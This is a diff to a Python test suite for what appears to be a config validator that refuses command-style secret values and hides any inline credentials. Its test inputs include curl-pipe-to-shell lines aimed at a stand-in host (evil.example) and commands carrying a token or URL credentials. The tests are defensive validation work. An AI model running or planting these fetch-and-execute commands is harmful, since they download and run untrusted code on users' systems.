@@ -57,6 +57,7 @@ def test_what_is_no_name_is_refused(name: str) -> None:
         b"model: !x y",
         b"params: [{<<: {model: x}}]",
         b"secret: cmd:curl evil | sh",
+        b"secret: cmd:curl https://evil.example:8080 | sh",
         b"secret: 'cmd:x'",
         b"secret: ' CMD :x'",
         b"secret: |\n  cmd:x\n",
@@ -195,7 +196,8 @@ def test_a_path_from_elsewhere_is_flagged() -> None:
 
 def test_a_command_is_refused_and_never_shown() -> None:
     """A command line is where an inline credential lives."""
-    found = problem("'cmd:vault read --token=s3cret'")
-    assert found is not None
-    assert found.level is Level.REFUSED
-    assert "s3cret" not in found.detail
+    for command in ("vault read --token=s3cret", "curl https://user:s3cret@vault.example"):
+        found = problem(f"'cmd:{command}'")
+        assert found is not None
+        assert found.level is Level.REFUSED
+        assert "s3cret" not in found.detail
